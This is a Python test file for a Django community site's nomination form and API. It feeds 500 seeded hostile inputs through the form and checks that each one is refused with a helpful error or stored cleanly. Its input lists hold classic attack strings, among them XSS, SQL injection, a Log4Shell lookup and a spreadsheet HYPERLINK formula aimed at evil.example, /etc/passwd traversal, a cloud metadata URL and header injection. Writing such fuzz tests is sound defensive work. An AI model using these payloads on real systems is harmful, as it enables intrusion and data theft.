"""Five hundred hostile texts through the nominate box, by the page and by the API.

Never a fault of ours, never a lost text, and always a word about what would help. The texts are made by a generator
with a fixed seed: all scripts, controls, markup, other people's sites, and a megabyte of nothing.
"""

import json
import random
import re
import sys
import unicodedata
from datetime import timedelta
from html.parser import HTMLParser
from urllib.parse import quote

import pytest
import time_machine

from accounts.models import ApiToken, User
from recommendations.api import app
from recommendations.models import Nomination, Vote
from tests.conftest import MONDAY
from tests.recommendations.actions.conftest import on_mastodon

__all__ = ["on_mastodon"]
pytestmark = pytest.mark.django_db

SEED, HOW_MANY = 20_261_106, 500
MEGABYTE = 1_000_000
PAGE, API = "/c/custserv/nominate/", "/api/v1/communities/custserv/nominations"
GOOD_REASON = "She answers every question, and kindly."

# One letter or more of each script that Unicode names, found by their names.
SCRIPTS = sorted({unicodedata.name(chr(code), "").split(" ")[0]: chr(code) for code in range(0xA0, 0x1E943)
                  if unicodedata.category(chr(code)).startswith("L")}.values())  # fmt: skip
CONTROLS = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))]
INVISIBLE = list(
    "\u00ad\u034f\u061c\u115f\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202e\u2060\u2066\u2069\u3164\ufeff\ufffe\uffff\U000e0001\U0010ffff"
)
MARKUP = [
    "<script>alert(1)</script>", "\"><svg onload=alert(1)>", "'; DROP TABLE recommendations_profile; --", "{{ 7*7 }}",
    "{% load log %}", "${jndi:ldap://evil.example}", "</textarea><h1>gone</h1>", "<!--", "]]>", "&#0;", "&amp;&lt;",
    "javascript:alert(1)", "data:text/html,<b>", "%00", "%s%s%n", "../../etc/passwd", "\\x00", "\r\nSet-Cookie: a=b",
    "=HYPERLINK(\"http://evil.example\")", "@SUM(1)", "-1+1", "<a href=x hx-get=/>", "\u202e@ecila@elpmaxe.laicos",
]  # fmt: skip
ELSEWHERE = [
    "https://github.com/alice", "https://evil.example/@", "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd",
    "https://localhost/@alice", "https://[::1]/@alice", "//example.social/@alice", "https://user:pass@example.social/@a",
    "https://x.com/i/lists/1", "https://bsky.app/feeds", "mailto:alice@ff.example", "ftp://example.social/@alice",
    "https://example.social:8443/@alice", "at://did:web:localhost", "did:plc:short", "did:web:10.0.0.1", "acct:@@",
    "@alice@localhost", "@alice@127.0.0.1", "@alice@example", "@@@@", "alice@ff.example@x",
    "@a@" + "b." * 200 + "example", "https://example.social/" + "a/" * 900, "https://xn--a.example/@alice",
    "@alice@пример.рф/..", "@alice@[::ffff:7f00:1]",
]  # fmt: skip


def hostile_texts() -> list[str]:
    """The same five hundred every time."""
    chance = random.Random(SEED)
    texts = ["", " ", "\x00", "@", "@@", "\ufeff", "x" * 3000, "x" * 3001, *MARKUP, *ELSEWHERE, *CONTROLS]
    texts += ["🦊" * (MEGABYTE // 4), "a" * MEGABYTE, "@" * MEGABYTE, "\u0301" * (MEGABYTE // 2), "<" * MEGABYTE]
    everything = [SCRIPTS, CONTROLS, INVISIBLE, MARKUP, ELSEWHERE, ["@", ".", "/", " ", "-", "_", "alice", "\u0301"]]
    while len(texts) < HOW_MANY:
        parts = [chance.choice(chance.choice(everything)) for _ in range(chance.randint(1, 12))]
        texts.append("".join(parts)[: chance.choice([20, 200, 2100])])
    return texts


TEXTS = hostile_texts()
HELPFUL = re.compile(
    r"characters|required|example|handle|network|Mastodon|Bluesky|\bX\b|server|https://|choose|paste|page of|DID|longer"
    r"|shorter|Null"
)


@pytest.fixture
def grace_at_the_box(client, community, edition, grace, monkeypatch):
    """Grace is signed in, she is not new, it is Monday, and nobody counts how often she tries."""
    monkeypatch.setattr(app, "PEOPLE", 10**9)
    User.objects.update(date_joined=MONDAY - timedelta(days=9))
    with time_machine.travel(MONDAY):
        client.force_login(grace)
        yield client


def send_form(client, **fields: str | bytes):
    """As a browser encodes it; bytes go as they are, for what no browser would send."""
    body = "&".join(f"{name}={quote(value, safe='')}" for name, value in fields.items())
    return client.generic("POST", PAGE, body, content_type="application/x-www-form-urlencoded")


def take_off_the_board() -> None:
    Vote.objects.all().delete()
    Nomination.objects.all().delete()


class Form(HTMLParser):
    """What stands in the boxes of a page, and what stands beside them as an error."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.boxes: dict[str, str] = {}
        self.errors: list[str] = []
        self._box = ""
        self._error = 0
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        given = dict(attrs)
        if tag == "input":
            self.boxes[given.get("name") or ""] = given.get("value") or ""
        if tag == "textarea":
            self._box = given["name"]
            self.boxes[self._box] = ""
        if self._error:
            self._error += tag == "div"
        elif given.get("role") == "alert":
            self._error = 1
            self.errors.append("")

    def handle_endtag(self, tag):
        if tag == "textarea":
            self._box = ""
        if self._error and tag == "div":
            self._error -= 1

    def handle_data(self, data):
        if self._box:
            self.boxes[self._box] += data
        if self._error:
            self.errors[-1] += data


def as_a_browser_reads(text: str) -> str:
    """What HTML makes of a text on the way through a page: line ends are one kind, and NUL is no character."""
    return re.sub(r"\r\n?", "\n", text).replace("\x00", "\ufffd")


def same(shown: str, typed: str) -> bool:
    return as_a_browser_reads(shown).strip() == as_a_browser_reads(typed).strip()


def test_the_texts_are_what_they_claim_to_be():
    text = "".join(text[:3000] for text in TEXTS)

    assert len(TEXTS) == HOW_MANY
    assert len(SCRIPTS) > 150
    assert sum(len(each.encode()) >= MEGABYTE - 4 for each in TEXTS) == 5
    assert all(character in text for character in "\x00\x1b\x85\u202e\uffff\U0010ffff<>\"'&")
    assert sys.maxunicode == 0x10FFFF


@pytest.mark.parametrize("part", range(10))
def test_a_hostile_handle_on_the_page_is_shown_back_with_what_would_help(grace_at_the_box, part):
    for typed in TEXTS[part::10]:
        response = send_form(grace_at_the_box, handle=typed, network="", reason=GOOD_REASON)

        if response.status_code == 302:  # it could be read after all, and somebody is on the board
            assert Nomination.objects.count() == 1, ascii(typed[:80])
            take_off_the_board()
            continue
        assert response.status_code == 422, ascii(typed[:80])
        form = Form(response.content.decode())
        assert same(form.boxes["handle"], typed), ascii(typed[:80])
        assert form.boxes["reason"].strip() == GOOD_REASON
        assert len(form.errors) == 1, ascii(typed[:80])
        assert HELPFUL.search(form.errors[0]), (ascii(typed[:80]), form.errors)
        assert len(form.errors[0]) < 400


@pytest.mark.parametrize("part", range(10))
def test_a_hostile_reason_on_the_page_is_kept_clean_or_shown_back(grace_at_the_box, on_mastodon, part):
    handle = str(on_mastodon("rosa"))
    for typed in TEXTS[part::10]:
        response = send_form(grace_at_the_box, handle=handle, network="", reason=typed)

        if response.status_code == 302:
            kept = Nomination.objects.get().reason
            assert 20 <= len(kept) <= 500
            assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufffe\uffff]", kept), ascii(kept)
            take_off_the_board()
            continue
        assert response.status_code == 422, ascii(typed[:80])
        form = Form(response.content.decode())
        assert form.boxes["handle"] == handle
        assert same(form.boxes["reason"], typed), ascii(typed[:80])
        assert any(HELPFUL.search(error) for error in form.errors), (ascii(typed[:80]), form.errors)


@pytest.mark.parametrize("part", range(10))
def test_a_hostile_text_by_the_api_is_a_problem_with_what_would_help(grace_at_the_box, grace, on_mastodon, part):
    headers = {"Authorization": f"Bearer {ApiToken.objects.issue(grace, 'test')[1]}"}
    rosa = str(on_mastodon("rosa"))
    for typed in TEXTS[part::10]:
        for body in ({"handle": typed, "reason": GOOD_REASON}, {"handle": rosa, "reason": typed}):
            response = grace_at_the_box.post(API, json.dumps(body), content_type="application/json", headers=headers)

            said = json.loads(response.content)
            if response.status_code == 201:
                take_off_the_board()
                continue
            assert response.status_code in (409, 422), ascii(typed[:80])
            assert response["Content-Type"] == "application/problem+json"
            assert HELPFUL.search(said["detail"]), (ascii(typed[:80]), said)


LONE_SURROGATES = [
    b"%ED%A0%80",
    b"%ED%BF%BF%ED%A0%80",
    b"\xed\xa0\x80",
    b"%FF%FE%00%D8",
    b"%C0%80",
    b"%F4%90%80%80",
    b"%u d800",
]


@pytest.mark.parametrize("typed", LONE_SURROGATES)
def test_bytes_that_are_no_text_are_shown_back_as_replacement_characters(grace_at_the_box, typed):
    body = b"handle=" + typed + b"&reason=" + typed * 30

    response = grace_at_the_box.generic("POST", PAGE, body, content_type="application/x-www-form-urlencoded")

    assert response.status_code == 422
    form = Form(response.content.decode())
    assert form.boxes["handle"]
    assert not re.search("[\ud800-\udfff]", form.boxes["handle"] + form.boxes["reason"])


@pytest.mark.parametrize("typed", [b'"\\ud800"', b'"\\udfff\\ud800"', b'"a\\udc00b"'])
def test_half_a_character_in_json_is_a_problem(grace_at_the_box, grace, typed):
    headers = {"Authorization": f"Bearer {ApiToken.objects.issue(grace, 'test')[1]}"}

    for body in (b'{"handle": %s, "reason": "x"}' % typed, b'{"handle": "@a@b.example", "reason": %s}' % typed):
        response = grace_at_the_box.post(API, body, content_type="application/json", headers=headers)
        assert response.status_code == 422


def test_a_form_past_all_limits_is_refused_whole(grace_at_the_box, settings):
    body = "handle=" + "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)

    response = grace_at_the_box.generic("POST", PAGE, body, content_type="application/x-www-form-urlencoded")

    assert response.status_code in (400, 413)
    assert response.content


@pytest.mark.parametrize("many", [1_001, 5_000])
def test_a_form_of_too_many_fields_is_refused_whole(grace_at_the_box, many):
    body = "&".join(f"f{number}=x" for number in range(many))

    response = grace_at_the_box.generic("POST", PAGE, body, content_type="application/x-www-form-urlencoded")

    assert response.status_code == 400
